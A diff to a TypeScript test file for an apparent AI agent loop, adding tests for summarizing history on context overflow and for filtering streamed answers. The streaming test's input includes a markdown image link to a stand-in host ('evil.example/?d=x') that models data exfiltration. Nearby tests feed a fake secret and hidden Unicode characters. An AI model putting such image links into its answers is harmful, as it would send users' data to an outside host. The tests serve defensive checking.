@@ -1,5 +1,6 @@
 import type { ArtifactRef, Json, JsonObject } from "@gantry/sdk";
 import { expect, test } from "vitest";
+import { ModelContextOverflowError } from "../models/errors.ts";
 import type { ModelAnswer, ModelCall } from "../models/types.ts";
 import { extract } from "./extract.ts";
 import { think } from "./think.ts";
@@ -181,6 +182,51 @@ test("what was said earlier is summarized before it is too long, once, and what 
   expect(thought.calls).toHaveLength(6);
 });
 
+test("where a model reads less than was allowed for, all is summarized once, and it goes on; then the prompt is too long", async () => {
+  const script = [called("test.look", { at: "a" }), called("test.look", { at: "b" })];
+  const stage = setStage([...script, { text: "done" }]);
+  stage.summary = { text: "a and b are fine (source 2)" };
+  stage.overflowAt = 3_000;
+  stage.look = ({ at }) => Promise.resolve(`${at} `.repeat(1_000));
+  expect((await stage.think()).text).toBe("done");
+  const last = stage.asked.at(-1)?.messages;
+  expect(last).toHaveLength(2);
+  expect(last?.[1]).toMatchObject({ content: expect.stringContaining("a and b are fine (source 2)") });
+  // Who goes on from the notes says the very same, and doesn't ask for another summary.
+  const again = setStage([{ text: "done" }], stage.noted.slice(0, -1));
+  await again.think();
+  expect(again.asked.map(({ task, messages }) => [task, messages])).toEqual([["answer", last]]);
+
+  const twice = setStage([...script, ...script]);
+  twice.overflowAt = 3_000;
+  twice.look = stage.look;
+  await expect(twice.think()).rejects.toMatchObject({
+    code: "prompt_too_long",
+    cause: { code: "model_context_overflow" },
+  });
+  expect(twice.asked.filter(({ task }) => task === "summarize")).toHaveLength(1);
+  const goal = setStage([]);
+  goal.overflowAt = 10;
+  await expect(goal.think()).rejects.toMatchObject({ code: "prompt_too_long" });
+  expect(goal.asked).toHaveLength(1);
+});
+
+test("while an answer comes nothing is shown that the whole of it leaves out, wherever it is cut", async () => {
+  const text =
+    "日本 is _https://docs.example.net/a_, see https://wiki.example.org/y! ![](http://evil.example/?d=x) (source 1, source 17) sourcehttp://evil.example/z resource 9 http";
+  for (const size of [1, 2, 3, 7, 1_000]) {
+    const stage = setStage([called("test.look", { at: "a" }), { text }]);
+    stage.look = () => Promise.resolve("read https://wiki.example.org/y");
+    let shown = "";
+    stage.pieces = size;
+    stage.deps.show = () => ({ part: (part) => void (shown += part.type === "text" ? part.text : ""), end: () => {} });
+    const found = await stage.think();
+    expect(found.text).toContain("https://wiki.example.org/y!");
+    expect(found.text).not.toMatch(/evil|docs\.example|source 17/);
+    expect(shown).toBe(found.text);
+  }
+});
+
 test("secrets and what people can't see don't leave for a model", async () => {
   const stage = setStage([called("test.look", { at: "a" }), { text: "ok" }]);
   stage.look = () => Promise.resolve("hunter2 \u{E0049}\u{E0067}plain\u202E");
@@ -250,11 +296,15 @@ function setStage(script: readonly Partial<ModelAnswer>[], notes: readonly Json[
     { name: "test.change", title: "Change", effect: "changes", inputSchema, problemsOf: () => [], call: null },
   ];
   const deps: MindDeps = {
-    answer: async (call) => {
+    answer: async (call, onPart) => {
       asked.push({ ...call, messages: structuredClone(call.messages) });
       now += 10;
+      if (call.task !== "summarize" && JSON.stringify(call.messages).length > stage.overflowAt)
+        throw new ModelContextOverflowError({ connection: "test", provider: "test", model: "scripted" }, "");
       const said = call.task === "summarize" ? stage.summary : script[next++];
       if (!said) throw new Error("The script is over.");
+      for (let at = 0; at < (said.text ?? "").length; at += stage.pieces)
+        onPart?.({ type: "text", text: said.text?.slice(at, at + stage.pieces) ?? "" });
       return answerOf(said);
     },
     notes,
@@ -279,6 +329,10 @@ function setStage(script: readonly Partial<ModelAnswer>[], notes: readonly Json[
     deps,
     look: ({ at }: { at: string }): Promise<Json> => Promise.resolve({ seen: at }),
     summary: { text: "nothing yet" } as Partial<ModelAnswer>,
+    /** Characters of a prompt that the model doesn't read. */
+    overflowAt: Number.POSITIVE_INFINITY,
+    /** Characters of an answer that come at once. */
+    pieces: 1_000,
     think: (more: Partial<Thinking> = {}) =>
       think(
         {
